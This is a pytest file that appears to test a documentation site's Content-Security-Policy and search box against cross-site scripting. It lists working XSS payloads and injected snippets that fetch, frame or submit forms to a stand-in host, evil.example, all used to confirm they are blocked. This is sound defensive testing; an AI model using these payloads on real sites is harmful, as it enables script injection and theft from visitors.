"""The site in the hands of someone hostile: what may not run does not, what is typed stays text."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest
from bs4 import BeautifulSoup

from tests.browser.test_pages import KINDS, TASK
from tests.browser.test_search import WATCH
from tests.browser.waiting import wait_until

# Keeps what the policy refused, from before the page's first script.
LISTEN = """
window.refused = [];
document.addEventListener("securitypolicyviolation", (event) => {
  const { effectiveDirective, blockedURI, sourceFile, lineNumber } = event;
  window.refused.push(`${effectiveDirective} ${blockedURI} ${sourceFile}:${lineNumber}`);
});
"""

HOSTILE = (
    "<img src=x onerror=window.pwned=1>",
    '"><svg onload=window.pwned=1>',
    "'><script>window.pwned=1</script>",
    "<a href=javascript:window.pwned=1>kinesis</a>",
    "javascript:window.pwned=1",
    "{{constructor.constructor('window.pwned=1')()}}",
    "kinesis<iframe srcdoc='<script>top.pwned=1</script>'>",
    "</title><style>*{display:none}</style>",
)

# What must never come from a visitor's words; our pages and the theme have none of these.
FOREIGN = "img[src='x'], svg[onload], iframe, article script, a[href^='javascript' i], style, [onerror]"


ANSWERED = "window.watched && watched.asked > 0 && watched.asked === watched.answered"


@pytest.fixture(scope="session")
def soups(site_dir: Path) -> dict[str, BeautifulSoup]:
    """File -> parsed page; without the addresses of moved pages, which show and take nothing."""
    found = {}
    for path in sorted(site_dir.rglob("*.html")):
        soup = BeautifulSoup(path.read_text("utf-8"), "lxml")
        if not soup.find("meta", attrs={"http-equiv": "refresh"}):
            found[path.relative_to(site_dir).as_posix()] = soup
    return found


def policy_of(soup: BeautifulSoup) -> dict[str, list[str]]:
    """Directive -> its sources."""
    (tag,) = soup.find_all("meta", attrs={"http-equiv": "Content-Security-Policy"})
    return {words[0]: words[1:] for words in map(str.split, tag["content"].split(";"))}


def search(page, words: str) -> None:
    """Type into the box; return when the results stand."""
    box = page.locator("input[name=query]")
    box.fill(words)
    box.press("End")  # the box listens to keys
    wait_until(page, f"watched.query === argument && {ANSWERED}", words)
    settle(page)


def settle(page) -> None:
    """Let the page draw what it has been told."""
    page.evaluate("() => new Promise(resolve => requestAnimationFrame(() => setTimeout(resolve, 50)))")


# --- the files -----------------------------------------------------------------------


def test_every_page_has_a_policy_without_unsafe_sources_or_other_origins(soups):
    for path, soup in soups.items():
        policy = policy_of(soup)
        assert policy["default-src"] == ["'self'"], path
        assert policy["object-src"] == ["'none'"], path
        allowed = {source for sources in policy.values() for source in sources}
        assert not [s for s in allowed if not re.fullmatch(r"'self'|'none'|data:|'sha256-[\w+/=]+'", s)], path
        assert "data:" not in policy["script-src"], path


def test_the_policy_comes_before_anything_it_governs(site_dir: Path, soups):
    for path in soups:
        html = (site_dir / path).read_text("utf-8")
        governed = re.search(r"<(script|link|style|img|body)\b", html).start()
        assert html.index("Content-Security-Policy") < governed, path


def test_pages_have_no_style_attributes_and_no_handlers(soups):
    """The policy would silently ignore them: write a class in atlas.css or a module instead.

    A table whose columns are aligned in Markdown (``--:``) has style attributes too.
    """
    for path, soup in soups.items():
        found = [
            f"<{tag.name} {name}=...>"
            for tag in soup.find_all(True)
            for name in tag.attrs
            if name == "style" or name.startswith("on")
        ]
        assert not found + soup.find_all("style"), path


def test_links_out_do_not_hand_over_the_window(soups):
    out = 0
    for path, soup in soups.items():
        for link in soup.find_all("a", href=re.compile(r"^\s*(https?:)?//", re.IGNORECASE)):
            out += 1
            assert "noopener" in link.get("rel", []), (path, link)
    assert out > 100


# --- the policy in a browser ---------------------------------------------------------


@pytest.fixture
def guarded_page(open_page):
    """Open a page that keeps what its policy refused; afterwards nothing may have been refused."""
    pages = []

    def open_(path: str, **options):
        options["prepare"] = LISTEN + options.get("prepare", "")
        pages.append(open_page(path, **options))
        return pages[-1]

    yield open_
    for page in pages:
        assert page.evaluate("refused") == []
        assert page.strays == []


@pytest.mark.parametrize("kind", KINDS)
def test_the_policy_refuses_nothing_a_reader_does(guarded_page, kind):
    page = guarded_page(KINDS[kind], prepare=WATCH)
    # Everything lazy is loaded, everything closed is opened.
    page.evaluate("document.querySelectorAll('article details').forEach(d => d.open = true)")
    for image in page.locator("article img:visible").all():
        image.scroll_into_view_if_needed()
    page.locator("label.md-header__button[for^=__palette]:visible").click()
    wait_until(page, "document.body.dataset.mdColorScheme === 'slate'")
    answers = page.locator("article .question__options input")
    if answers.count():
        answers.first.check()
    page.locator("input[name=query]").click()
    search(page, "kinesis shard")
    assert page.locator(".md-search-result__item").count()  # the worker started, and read the index
    assert page.evaluate("refused") == []

    page.locator(".md-search-result__item a").first.click()
    page.wait_for_url("**/?h=*")
    wait_until(page, "document.querySelector('article mark')")
    assert page.evaluate("document.body.dataset.mdColorScheme") == "slate"  # remembered: inline scripts ran


def test_a_page_that_does_not_exist_keeps_its_policy(guarded_page):
    page = guarded_page("404.html")
    assert "not found" in page.locator("h1").inner_text().lower()
    assert page.evaluate("typeof __md_get") == "function"


@pytest.mark.parametrize(
    ("attack", "directive"),
    [
        ("const s = document.createElement('script'); s.textContent = 'window.pwned = 1'; at.append(s)",
         "script-src-elem"),
        ("at.innerHTML = '<img src=x onerror=\"window.pwned = 1\">'", "script-src-attr"),
        ("const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; at.append(s)",
         "script-src-elem"),
        ("const s = document.createElement('script'); s.src = 'data:text/javascript,pwned=1'; at.append(s)",
         "script-src-elem"),
        ("at.innerHTML = '<a id=evil href=\"javascript:void(window.pwned = 1)\">x</a>'; evil.click()",
         "script-src-elem"),
        ("at.innerHTML = '<img src=https://evil.example/x.png>'", "img-src"),
        ("at.innerHTML = '<style>* { color: red }</style>'", "style-src-elem"),
        ("at.innerHTML = '<iframe src=https://evil.example/></iframe>'", "frame-src"),
        ("at.innerHTML = '<object data=https://evil.example/></object>'", "object-src"),
        ("fetch('https://evil.example/').catch(() => {})", "connect-src"),
        ("const b = document.createElement('base'); b.href = 'https://evil.example/'; at.append(b)",
         "base-uri"),
        ("at.innerHTML = '<form action=https://evil.example/><input name=a></form>';"
         "at.querySelector('form').submit()", "form-action"),
    ],
)  # fmt: skip
def test_what_is_injected_is_blocked(open_page, attack, directive):
    page = open_page(f"{TASK}file-formats/", prepare=LISTEN)
    reached = []  # what got past the policy, to the network

    def answer(route):
        reached.append(route.request.url)
        route.fulfill(body="")

    page.route("https://evil.example/**", answer)
    page.evaluate(f"() => {{ const at = document.querySelector('article'); {attack} }}")
    wait_until(page, "refused.length > 0")
    assert page.evaluate("refused")[0].split()[0] == directive
    assert page.evaluate("window.pwned") is None
    settle(page)
    assert reached == []


# --- what visitors type --------------------------------------------------------------


@pytest.fixture
def harmless(guarded_page) -> Iterator:
    """Open a page that must end without a dialog, a foreign element or a word of the attacker run."""
    opened = []

    def open_(path: str):
        dialogs = []
        page = guarded_page(path, prepare=WATCH)
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        opened.append((page, dialogs))
        return page

    yield open_
    for page, dialogs in opened:
        assert page.evaluate("window.pwned") is None
        assert page.locator(FOREIGN).count() == 0
        assert dialogs == []


def test_the_search_box_shows_words_and_makes_no_elements(harmless):
    page = harmless("")
    page.locator("input[name=query]").click()
    for words in HOSTILE:
        for query in (words, f"kinesis {words}"):
            search(page, query)
            assert page.locator(FOREIGN).count() == 0, query


@pytest.mark.parametrize("where", ["?q={}", "?h={}", "#{}", "?q={0}&h={0}#{0}", "#__tabbed_{}"])
def test_an_address_shows_words_and_makes_no_elements(harmless, site_url, where):
    page = harmless("")
    for words in HOSTILE:
        page.goto("about:blank")  # else another fragment would not load the page anew
        page.goto(f"{site_url}{TASK}file-formats/{where.format(quote(words, safe=''))}")
        if "?q=" in where:  # Material asks the worker what the address says
            wait_until(page, ANSWERED)
            assert page.locator("input[name=query]").input_value() == words
        settle(page)
        assert page.locator(FOREIGN).count() == 0, words
        assert page.evaluate("[window.pwned ?? null, refused]") == [None, []], words
